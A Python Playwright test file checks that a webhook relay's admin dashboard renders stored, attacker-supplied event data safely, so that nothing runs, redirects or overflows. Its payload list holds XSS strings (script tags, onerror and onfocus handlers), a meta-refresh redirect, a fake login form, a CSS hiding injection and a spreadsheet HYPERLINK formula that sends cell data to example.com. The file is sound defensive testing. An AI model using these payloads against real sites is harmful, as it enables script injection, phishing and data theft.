"""What others sent, in a real browser: nothing of it runs, leads anywhere or breaks the layout."""

from __future__ import annotations

import json

import asyncpg
import pytest
from playwright.async_api import Page, expect

from tests.admin.test_hostile import HOSTILE, INVISIBLE
from tests.admin.world import Served
from tests.browser.accessibility import too_wide
from tests.browser.hands import act, main
from tests.browser.visit import Visits
from tests.store.rows import bury, new_event, store

LONG = "w" * 20_000
TEXTS = (
    *HOSTILE,
    "<script>document.title='taken'</script><img src=//example.com/x onerror=alert(1)>",
    "' autofocus onfocus=alert(1) x='",
    "<meta http-equiv=refresh content='0;url=//example.com'><base href=//example.com>",
    "<form action=//example.com><button autofocus>Log in</button></form>",
    "<link rel=stylesheet href=//example.com/x.css><style>*{display:none}</style>",
    '=HYPERLINK("http://example.com/?x="&A1,"Go")',
    LONG,
)


async def _said(pg: asyncpg.Connection, source_id: int, text: str) -> int:
    """A dead event that says it wherever others can."""
    # An index has no room for more of the names.
    name = text[:1000]
    data = {
        "object": {"id": name, name: text, "deep": [[[text]]]},
        "previous_attributes": {name: text + "before"},
    }
    event = new_event(
        source_id,
        name,
        event_type=name,
        object_type=name,
        object_id=name,
        account=name,
        api_version=name,
        signature_header=text,
        body=json.dumps({"id": name, "type": name, "data": data}, ensure_ascii=False).encode(),
    )
    (inbox_id,) = await store(pg, event)
    await bury(pg, inbox_id, code=name)
    await pg.execute("UPDATE relay.dead_letter SET error = $1", text)
    await pg.execute(
        "INSERT INTO relay.attempt (inbox_id, number, error_code, error) VALUES ($1, $1, $2, $3)",
        inbox_id,
        name,
        text,
    )
    await pg.execute(
        "INSERT INTO relay.operator_log (who, action, target, reason, details) VALUES"
        " ($1, 'event.retry', $1, $2, jsonb_build_object('ids', jsonb_build_array($3::bigint)))",
        name,
        text,
        inbox_id,
    )
    await pg.execute("UPDATE relay.source SET name = $1, insecure = true", name)
    return inbox_id


async def _is_harmless(page: Page, path: str) -> None:
    await page.goto(path)
    await expect(page.get_by_role("heading", level=1)).to_be_visible()
    assert (await page.title()).endswith(" · relay"), path
    assert await too_wide(page) == [], path
    text = await page.locator("body").inner_text()
    assert not set(INVISIBLE) & set(text), path


# Visits fail for a dialog, a violation of the content policy, or a request to anywhere else.
@pytest.mark.parametrize("text", TEXTS, ids=range(len(TEXTS)))
async def test_nothing_of_it_runs(
    dashboard: Served, visit: Visits, pg: asyncpg.Connection, source_id: int, text: str
) -> None:
    inbox_id = await _said(pg, source_id, text)
    page = await visit(dashboard, size=(360, 800))
    for path in (f"/events/{inbox_id}", "/", "/events", "/dead-letters", "/operator-log"):
        await _is_harmless(page, path)
    # By hand, from where it is a link and into where it is a value.
    await page.goto("/events")
    await page.get_by_role("row").nth(1).get_by_role("link").nth(1).click()
    await expect(page).to_have_url(f"{dashboard.base_url}/objects?{page.url.partition('?')[2]}")
    assert await too_wide(page) == []
    await page.goto("/dead-letters")
    await page.get_by_label("Error code").fill(text[:1000])
    await page.get_by_role("button", name="Filter").click()
    await expect(main(page)).to_contain_text("Open ones")
    assert await too_wide(page) == []


async def test_what_an_operator_types_does_not_run(
    dashboard: Served, visit: Visits, pg: asyncpg.Connection, source_id: int
) -> None:
    page = await visit(dashboard, name="<img src=x onerror=alert(1)>", size=(360, 800))
    for text in (TEXTS[0], TEXTS[1], TEXTS[-2], "w" * 1000):
        (inbox_id,) = await store(pg, new_event(source_id))
        await page.goto(f"/events/{inbox_id}")
        await act(page, "Skip", text)
        await expect(main(page)).to_contain_text("The event was skipped.")
        assert await too_wide(page) == []
        await _is_harmless(page, "/operator-log")


async def test_a_visit_notices_what_must_not_happen(dashboard: Served, visit: Visits) -> None:
    page = await visit(dashboard)
    await page.goto("/")
    async with page.expect_console_message(lambda message: "image" in message.text.lower()):
        await page.evaluate(
            """() => {
                alert("taken");
                const script = document.createElement("script");
                script.text = "document.title = 'taken'";
                document.body.append(script);
                document.body.append(Object.assign(new Image(), {src: "http://example.com/x"}));
            }"""
        )
    seen = " ".join(visit.problems)
    visit.problems.clear()
    assert "a dialog: taken" in seen
    assert "inline script" in seen
    assert "example.com" in seen
    assert await page.title() == "Overview · relay"
